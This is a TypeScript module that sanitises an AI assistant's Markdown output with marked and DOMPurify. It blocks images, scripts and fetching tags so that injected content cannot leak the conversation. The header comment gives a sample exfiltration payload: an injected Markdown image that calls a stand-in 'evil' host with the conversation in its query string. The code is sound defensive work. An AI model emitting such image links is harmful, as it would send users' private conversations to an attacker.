// Assistant text is Markdown that may quote help-center articles or uploaded files verbatim, so it is
// untrusted: rendered by marked, then sanitised by DOMPurify (no scripts, handlers, iframes, forms or
// styles), and every link opens in a new tab without access to this window.
// Images are never rendered: an injected `![](https://evil/?q=<conversation>)` would be fetched the moment
// it is shown, leaking the conversation without a click. A Markdown image becomes a plain link instead.
import DOMPurify from "dompurify";
import { Marked, type Tokens } from "marked";

function escapeHtml(text: string): string {
  return text
    .replace(/&/g, "&amp;")
    .replace(/</g, "&lt;")
    .replace(/>/g, "&gt;")
    .replace(/"/g, "&quot;")
    .replace(/'/g, "&#39;");
}

const marked = new Marked({ gfm: true, breaks: true, async: false });
marked.use({
  renderer: {
    image({ href, text }: Tokens.Image): string {
      // The href still goes through DOMPurify's URI check below; the alt text is shown as text.
      return `<a href="${escapeHtml(href)}">${escapeHtml(text || href)}</a>`;
    },
  },
});

let hooked = false;
function installHooks(): void {
  if (hooked) return;
  hooked = true;
  DOMPurify.addHook("afterSanitizeAttributes", (node) => {
    if (node.tagName === "A") {
      node.setAttribute("target", "_blank");
      node.setAttribute("rel", "noopener noreferrer");
    }
  });
}

export function renderMarkdown(text: string): string {
  installHooks();
  const html = marked.parse(text) as string;
  return DOMPurify.sanitize(html, {
    // `img` covers raw HTML images too; `picture`, `source`, `video`, `audio`, `track` and `link` also fetch.
    FORBID_TAGS: ["style", "iframe", "form", "input", "button", "textarea", "select", "object", "embed", "svg", "math",
      "img", "picture", "source", "video", "audio", "track", "link", "image"],
    FORBID_ATTR: ["style", "srcset", "background", "poster"],
    ALLOWED_URI_REGEXP: /^(?:https?:|mailto:|tel:|#|\/)/i,
  });
}
